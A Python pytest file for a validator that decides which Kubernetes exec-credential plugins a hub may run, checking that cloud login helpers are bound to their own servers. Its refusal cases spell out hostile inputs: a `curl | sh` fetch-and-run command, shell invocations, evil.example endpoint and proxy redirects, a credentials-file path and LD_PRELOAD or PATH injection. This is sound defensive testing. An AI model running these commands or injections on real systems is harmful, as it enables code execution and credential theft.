"""Which programs a hub's Secrets may have run, and the sentence for each that they may not."""

from __future__ import annotations

import pytest

from backends.hub_plugins import KNOWN, refusal
from backends.kube.context import ExecPlugin

EKS = "https://ABC123.gr7.eu-central-1.eks.amazonaws.com"
AKS = "https://shop-1.hcp.westeurope.azmk8s.io:443"
AKS_ID = "6dae42f8-4368-4678-94ff-3960e28e3630"
TOKEN = ("eks", "get-token", "--cluster-name", "shop")


def asked(
    command: str,
    *args: str,
    server: str = EKS,
    env: dict[str, str] | None = None,
    proxy: str = "",
    insecure: bool = False,
    consented: tuple[str, ...] = (),
) -> str:
    plugin = ExecPlugin(command, "client.authentication.k8s.io/v1beta1", args, env or {})
    return refusal(plugin, server=server, proxy=proxy, insecure=insecure, consented=consented)


@pytest.mark.parametrize(
    ("command", "args", "server", "env"),
    [
        ("argocd-k8s-auth", ("aws", "--cluster-name", "shop", "--role-arn", "arn:aws:iam::1:role/x"), EKS, {}),
        ("aws", (*TOKEN, "--region=eu-central-1", "--output", "json"), EKS, {"AWS_PROFILE": "shop"}),
        ("aws", ("--region", "eu-central-1", *TOKEN), EKS, {}),
        ("aws", TOKEN, "https://ABC.sk1.cn-north-1.eks.amazonaws.com.cn", {}),
        ("aws-iam-authenticator", ("token", "-i", "shop"), EKS, {}),
        ("kubelogin", ("get-token", "--login", "azurecli", "--server-id", AKS_ID), AKS, {}),
        ("gke-gcloud-auth-plugin", (), "https://gke-1-2.europe-west1.gke.goog", {}),
        (
            "doctl",
            ("kubernetes", "cluster", "kubeconfig", "exec-credential", "--version=v1beta1", "f00-ba7"),
            "https://f00.k8s.ondigitalocean.com",
            {},
        ),
    ],
)
def test_a_helper_gets_a_login_for_a_server_of_its_own_cloud(
    command: str, args: tuple[str, ...], server: str, env: dict[str, str]
) -> None:
    assert asked(command, *args, server=server, env=env) == ""
    assert "its login is not for 10.0.0.1" in asked(command, *args, server="https://10.0.0.1", env=env)
    behind = f"https://{server.partition('://')[2].partition(':')[0]}.evil.example"
    assert "its login is not for" in asked(command, *args, server=behind, env=env)
    for way in ({"proxy": "http://proxy.example"}, {"insecure": True}):
        assert "past the server's own certificate" in asked(command, *args, server=server, env=env, **way)


@pytest.mark.parametrize(
    ("command", "args", "env", "why"),
    [
        ("/bin/sh", ("-c", "id"), {}, "a hub may not name a path"),
        ("./aws", TOKEN, {}, "a hub may not name a path"),
        ("..\\aws", TOKEN, {}, "a hub may not name a path"),
        ("-c", (), {}, "a hub may not name a path"),
        ("", (), {}, "a hub may not name a path"),
        ("sh", ("-c", "curl https://x | sh"), {}, "`sh -c curl https://x | sh`, which a hub may not have run here"),
        ("python3.11", ("-c", "1"), {}, "that would be any program"),
        ("aws", ("s3", "rm", "s3://bucket"), {}, "something else than a login"),
        ("aws", (*TOKEN, "extra"), {}, "something else than a login"),
        ("aws", (*TOKEN, "--endpoint-url", "http://evil.example"), {}, "something else than a login"),
        ("aws", (*TOKEN, "--role-arn", "--endpoint-url=https://evil.example"), {}, "something else than a login"),
        ("aws", (*TOKEN, "--role-arn=file:///home/jane/.aws/credentials"), {}, "something else than a login"),
        ("aws", ("--no-verify-ssl", *TOKEN), {}, "something else than a login"),
        ("aws", ("eks", "get-token", "--cluster-name"), {}, "something else than a login"),
        ("kubelogin", ("get-token", "--server-id", "https://management.azure.com"), {}, "something else than a login"),
        ("argocd-k8s-auth", ("gcp",), {}, "something else than a login"),
        ("aws", TOKEN, {"AWS_CONFIG_FILE": "/tmp/x"}, "it is given AWS_CONFIG_FILE"),
        ("aws", TOKEN, {"HTTPS_PROXY": "http://evil.example"}, "it is given HTTPS_PROXY"),
        ("aws", TOKEN, {"PATH": "/tmp/evil"}, "with PATH set, which a hub may not decide here"),
        ("aws", TOKEN, {"LD_PRELOAD": "/tmp/x.so"}, "with LD_PRELOAD set"),
        ("aws", TOKEN, {"PYTHONPATH": "/tmp"}, "with PYTHONPATH set"),
    ],
)
def test_everything_else_is_refused_with_the_command_line(
    command: str, args: tuple[str, ...], env: dict[str, str], why: str
) -> None:
    said = asked(command, *args, env=env)
    assert why in said
    assert said.startswith(f"its login is got by running `{' '.join((command, *args))}`")


def test_consent_is_for_one_program_with_any_arguments_but_never_for_another_one() -> None:
    assert "hub_exec_plugins: [tsh] in fleetui's settings allows it" in asked("tsh", "kube", "credentials")
    assert asked("tsh", "kube", "credentials", consented=("tsh",)) == ""
    assert asked("aws", "s3", "ls", server="https://10.0.0.1", proxy="http://p", consented=("aws",)) == ""
    assert "may not have run here: that would be any program" in asked("sh", consented=("tsh",))
    assert "hub_exec_plugins" not in asked("bash", "-c", "id"), "nobody is led to consent to everything"
    assert "with PATH set" in asked("tsh", env={"PATH": "/tmp"}, consented=("tsh",))
    assert "may not name a path" in asked("/tmp/tsh", consented=("/tmp/tsh",))


def test_a_secret_among_the_arguments_is_not_shown() -> None:
    said = asked("kubelogin", "get-token", "--client-secret", "hunter2", "--password=hunter3", server=AKS)
    assert "hunter" not in said
    assert "--client-secret ***" in said
    assert "something else than a login" in said


def test_what_is_shown_is_one_short_line() -> None:
    said = asked("x", "\x1b[31m\nred", "y" * 5000)
    assert "\x1b" not in said
    assert "\n" not in said
    assert len(said) < 500


def test_every_helper_is_bound_to_its_cloud() -> None:
    for name, helper in KNOWN.items():
        assert "/" not in name
        assert helper.hosts.fullmatch("10.0.0.1") is None
        assert helper.hosts.fullmatch("evil.example") is None
